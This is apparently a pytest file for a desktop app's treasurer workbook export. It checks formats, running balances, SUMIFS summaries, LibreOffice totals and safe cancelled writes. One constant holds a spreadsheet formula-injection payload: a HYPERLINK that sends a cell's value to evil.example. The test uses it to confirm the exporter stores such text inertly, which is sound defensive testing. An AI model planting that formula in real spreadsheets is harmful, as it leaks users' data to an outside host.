"""The treasurer's workbook: read back with openpyxl (values, formulas, formats, layout)
and opened by LibreOffice, whose computed Summary must give the ledger's own totals."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from desktop_app.db import Database
from desktop_app.exports.treasurer_xlsx import (
    DUES_COLUMNS,
    TRANSACTION_COLUMNS,
    TransactionLine,
    TreasurerWorkbook,
    criterion,
    months_between,
    write_treasurer,
    write_treasurer_steps,
)
from desktop_app.models import Account, EntryKind, PaymentMethod
from desktop_app.services import ledger, roster
from desktop_app.services.group import GroupProfileData, save_profile
from desktop_app.services.ledger import DonationInput, LedgerLineInput, RemittanceInput
from desktop_app.services.roster import PersonInput
from tests.helpers.libreoffice import sheets_as_csv

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
USD = '"$"#,##0.00;-"$"#,##0.00'


def entry(day: date, cents: int, category: str, kind: EntryKind, **more: Any) -> LedgerLineInput:
    return LedgerLineInput(
        occurred_on=day,
        description=more.pop("description", category),
        category=category,
        kind=kind,
        amount_cents=cents,
        **more,
    )


@pytest.fixture
def books(db: Database) -> Database:
    """A year of a small group's money, with a line the year before and awkward text."""
    save_profile(db, GroupProfileData(name="=Riverside Group", country="US"))
    ledger.set_opening_balances(db, 100_000, 5_000)
    income, expense = EntryKind.INCOME, EntryKind.EXPENSE
    ledger.add_line(db, entry(date(2025, 12, 30), 10_000, "Grants", income))
    ana = roster.create_person(
        db,
        PersonInput(
            given_name="Ana",
            family_name="Lima",
            phone="617 555 0142",
            postal_code="02139",
            email="ana@example.org",
        ),
    ).person_id
    ledger.record_dues_payment(db, ana, 2_500, date(2026, 1, 10), method=PaymentMethod.CHEQUE)
    ledger.add_line(db, entry(date(2026, 1, 20), 1_250, "Printing", expense))
    ledger.add_donation(
        db, DonationInput(date(2026, 2, 3), 5_000, person_id=ana, method=PaymentMethod.CASH)
    )
    ledger.add_remittance(db, RemittanceInput(date(2026, 2, 15), 3_000, "2025 Q4", "REM-9"))
    ledger.add_line(
        db,
        entry(date(2026, 3, 1), 700, "Misc*", expense, description=HOSTILE, account=Account.CASH),
    )
    ledger.add_line(db, entry(date(2026, 3, 2), 100, "<5", income, receipt_ref="+44"))
    ledger.add_line(db, entry(date(2026, 3, 3), 900, "Misc", expense))
    ledger.add_line(db, entry(date(2027, 1, 5), 99_999, "Venue", expense))  # another year
    return db


@pytest.fixture
def workbook_path(books: Database, tmp_path: Path) -> Path:
    result = ledger.export_treasurer(books, tmp_path / "treasurer-2026.xlsx", 2026)
    assert result.rows == 7
    assert result.counts == {"transactions": 7, "dues": 1, "donations": 1, "remittances": 1}
    return result.path


def rows_of(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_sheets_in_order_with_bold_frozen_filtered_headers(workbook_path: Path) -> None:
    book = load_workbook(workbook_path)
    assert book.sheetnames == ["Summary", "Transactions", "Dues", "Donations", "Remittances"]
    for name in book.sheetnames[1:]:
        sheet = book[name]
        header = next(sheet.iter_rows(max_row=1))
        assert all(cell.font.b for cell in header), name
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref.startswith("A1:"), name
        assert sheet.column_dimensions["B"].width >= 12, name
    transactions = book["Transactions"]
    assert [c.value for c in transactions[1]] == [title for title, _ in TRANSACTION_COLUMNS]
    assert transactions.auto_filter.ref == "A1:K8"
    assert transactions.column_dimensions["B"].width == 42


def test_transactions_have_real_dates_currency_numbers_and_running_balance(
    workbook_path: Path,
) -> None:
    sheet = load_workbook(workbook_path)["Transactions"]
    rows = rows_of(sheet)[1:]
    assert [row[0] for row in rows] == [
        datetime(2026, 1, 10),
        datetime(2026, 1, 20),
        datetime(2026, 2, 3),
        datetime(2026, 2, 15),
        datetime(2026, 3, 1),
        datetime(2026, 3, 2),
        datetime(2026, 3, 3),
    ]
    assert sheet["A2"].is_date and sheet["A2"].number_format == "yyyy-mm-dd"
    # The year opens with last December's grant: 1,000 + 50 + 100.
    balances = [row[5] for row in rows]
    assert balances == [
        Decimal("1175"),
        Decimal("1162.5"),
        Decimal("1212.5"),
        Decimal("1182.5"),
        Decimal("1175.5"),
        Decimal("1176.5"),
        Decimal("1167.5"),
    ]
    assert rows[0][3] == Decimal("25") and rows[0][4] is None
    assert rows[1][3] is None and rows[1][4] == Decimal("12.5")
    for ref in ("D2", "E3", "F2"):
        assert sheet[ref].number_format == USD and sheet[ref].data_type == "n"
    assert rows[0][6:9] == ["Bank", "Cheque", "Ana Lima"]
    # Dues and the donation name Ana; a line with nobody linked has an empty Person cell.
    assert [row[8] or "" for row in rows] == ["Ana Lima", "", "Ana Lima", "", "", "", ""]
    assert rows[2][6] == "Cash"


def test_hostile_text_is_stored_as_text_never_as_a_formula(workbook_path: Path) -> None:
    book = load_workbook(workbook_path)
    sheet = book["Transactions"]
    cell = sheet["B6"]
    assert cell.value == HOSTILE and cell.data_type == "s" and cell.quotePrefix
    assert sheet["K7"].value == "+44" and sheet["K7"].quotePrefix
    assert sheet["C7"].value == "<5"
    title = book["Summary"]["A1"]
    assert title.value == "=Riverside Group: treasurer's workbook" and title.data_type == "s"
    with zipfile.ZipFile(workbook_path) as archive:
        transactions_xml = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in transactions_xml and "HYPERLINK" in transactions_xml


def test_dues_sheet_keeps_postal_codes_and_phones_as_text(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Dues"]
    headers = [title for title, _ in DUES_COLUMNS]
    assert [c.value for c in sheet[1]] == headers
    row = {title: cell for title, cell in zip(headers, sheet[2], strict=True)}
    assert row["Postal code"].value == "02139" and row["Postal code"].data_type == "s"
    assert row["Postal code"].number_format == "@"
    assert row["Phone"].value == "+16175550142" and row["Phone"].number_format == "@"
    assert row["Paid through"].value == datetime(2027, 1, 10)
    assert row["Amount"].value == Decimal("25") and row["Amount"].number_format == USD
    assert row["Member"].value == "Ana Lima"


def test_summary_totals_are_live_sumifs_formulas(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Summary"]
    cells = {row[0].value: row for row in sheet.iter_rows() if row[0].value}
    bank = cells["Bank"]
    assert bank[1].value == Decimal("1100")  # opening, the year's own: last year's grant in
    assert bank[2].value == "=SUMIFS('Transactions'!$D:$D,'Transactions'!$G:$G,\"Bank\")"
    assert bank[4].value == "=B6+C6-D6"
    printing = cells["Printing"]
    assert printing[1].value.startswith("=SUMIFS('Transactions'!$E:$E,")
    assert '"=Printing"' in printing[1].value and "EDATE(B$" in printing[1].value
    assert '"=Misc~*"' in cells["Misc*"][13].value
    assert len(printing) == 14  # name, twelve months, total
    months = [c.value for c in next(r for r in sheet.iter_rows() if r[0].value == "Money in")]
    assert months[1] == datetime(2026, 1, 1) and months[12] == datetime(2026, 12, 1)
    assert sheet.freeze_panes == "B1"


def test_libreoffice_computes_the_ledgers_own_totals(books: Database, workbook_path: Path) -> None:
    sheets = sheets_as_csv(workbook_path)
    assert set(sheets) == {"Summary", "Transactions", "Dues", "Donations", "Remittances"}
    rows = [row for row in sheets["Summary"] if row and row[0]]
    summary = {row[0]: row[1:] for row in rows}
    # Category rows by section ("Donations" is also a register's name further down).
    start_in = [row[0] for row in rows].index("Money in")
    start_out = [row[0] for row in rows].index("Money out")
    sections = {
        EntryKind.INCOME: {row[0]: row[1:] for row in rows[start_in + 1 : start_out - 1]},
        EntryKind.EXPENSE: {row[0]: row[1:] for row in rows[start_out + 1 :]},
    }

    def amount(text: str) -> Decimal:
        return Decimal(text or "0")

    closing = ledger.balances(books, date(2026, 12, 31))
    assert [amount(v) for v in summary["Bank"][:4]] == [
        Decimal("1100"),
        Decimal("26"),  # dues 25 + "<5" 1 (the donation went in the cash box)
        Decimal("51.5"),  # printing 12.50 + remittance 30 + misc 9
        Decimal(closing.bank_cents) / 100,
    ]
    assert amount(summary["Cash"][3]) == Decimal(closing.cash_cents) / 100
    totals = ledger.totals_by_category(books, ledger.Period.year(2026))
    for kind in (EntryKind.INCOME, EntryKind.EXPENSE):
        for category, cents in totals[kind]:
            row = sections[kind][category]
            assert amount(row[12]) == Decimal(cents) / 100, category  # the Total column
            assert sum(amount(v) for v in row[:12]) == Decimal(cents) / 100, category
    # Wildcards and comparisons in category names match themselves only.
    assert amount(summary["Misc*"][12]) == Decimal("7")
    assert amount(summary["Misc"][12]) == Decimal("9")
    assert amount(summary["<5"][12]) == Decimal("1")
    assert amount(summary["Misc*"][2]) == Decimal("7")  # March
    assert amount(summary["Total money in"][12]) == Decimal("76")
    assert amount(summary["Total money out"][12]) == Decimal("58.5")
    assert amount(summary["Net (money in less money out)"][12]) == Decimal("17.5")
    assert amount(summary["Net (money in less money out)"][2]) == Decimal("-15")  # March
    assert summary["Dues payments"][:2] == ["1", "25"]
    assert summary["Remittances awaiting acknowledgement"][:2] == ["1", "30"]
    # Text comes through as text: the hostile description is shown, not run.
    transactions = sheets["Transactions"]
    assert transactions[5][1] == HOSTILE
    assert sheets["Dues"][1][8] == "02139"


def test_no_year_means_the_whole_ledger_and_an_empty_year_still_opens(
    books: Database, tmp_path: Path
) -> None:
    everything = ledger.export_treasurer(books, tmp_path / "all.xlsx")
    assert everything.rows == 9
    sheet = load_workbook(everything.path)["Summary"]
    header = next(r for r in sheet.iter_rows() if r[0].value == "Money in")
    assert header[1].value == datetime(2025, 12, 1) and header[-2].value == datetime(2027, 1, 1)
    # A year without lines: a valid workbook, the balance carried forward and unchanged.
    empty = ledger.export_treasurer(books, tmp_path / "empty.xlsx", 2030)
    assert empty.rows == 0
    sheets = sheets_as_csv(empty.path)
    bank = next(row for row in sheets["Summary"] if row and row[0] == "Bank")
    carried = Decimal(ledger.balances(books).bank_cents) / 100
    assert carried == Decimal("74.51")
    assert [Decimal(value) for value in bank[1:5]] == [carried, 0, 0, carried]
    assert len(sheets["Transactions"]) == 1  # the header


def test_a_failed_or_cancelled_write_leaves_the_old_file(tmp_path: Path) -> None:
    from openpyxl.worksheet._writer import ALL_TEMP_FILES  # type: ignore[import-untyped]

    folder = tmp_path / "out"
    folder.mkdir()
    path = folder / "books.xlsx"
    temporary_files = len(ALL_TEMP_FILES)
    path.write_bytes(b"the previous workbook")

    def lines() -> Any:
        for n in range(12_000):
            yield TransactionLine(
                date(2026, 1, 1), "x", "c", n, None, n, "Bank", "Cash", "", "", ""
            )

    def book(count: int) -> TreasurerWorkbook:
        return TreasurerWorkbook(
            group_name="G", period_label="2026", first_month=date(2026, 1, 1),
            last_month=date(2026, 1, 1), opening_bank_cents=0, opening_cash_cents=0,
            currency_format=USD, income_categories=("c",), expense_categories=(),
            transaction_count=count, transactions=lines(),
        )  # fmt: skip

    with pytest.raises(ValueError, match="expected 5 ledger lines"):
        write_treasurer(book(5), path)
    steps = write_treasurer_steps(book(12_000), path)
    assert next(steps) == 5_000
    steps.close()  # Cancel in the progress dialog
    assert path.read_bytes() == b"the previous workbook"
    assert [p.name for p in folder.iterdir()] == ["books.xlsx"]
    assert len(ALL_TEMP_FILES) == temporary_files  # openpyxl's own sheet files are gone too
    write_treasurer(book(12_000), path)
    assert load_workbook(path)["Transactions"].max_row == 12_001


def test_criteria_and_months() -> None:
    assert criterion('Say "hi"*') == '"=Say ""hi""~*"'
    assert criterion("a~b?") == '"=a~~b~?"'
    assert months_between(date(2025, 11, 5), date(2026, 2, 1)) == [
        date(2025, 11, 1),
        date(2025, 12, 1),
        date(2026, 1, 1),
        date(2026, 2, 1),
    ]
    assert months_between(None, None) == []


def test_missing_libreoffice_fails_in_ci_and_skips_elsewhere(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tests.helpers import libreoffice

    monkeypatch.setattr(libreoffice.shutil, "which", lambda name: None)
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="libreoffice-calc-nogui"):
        libreoffice.soffice()
    monkeypatch.delenv("CI")
    with pytest.raises(pytest.skip.Exception, match="make system-deps"):
        libreoffice.soffice()
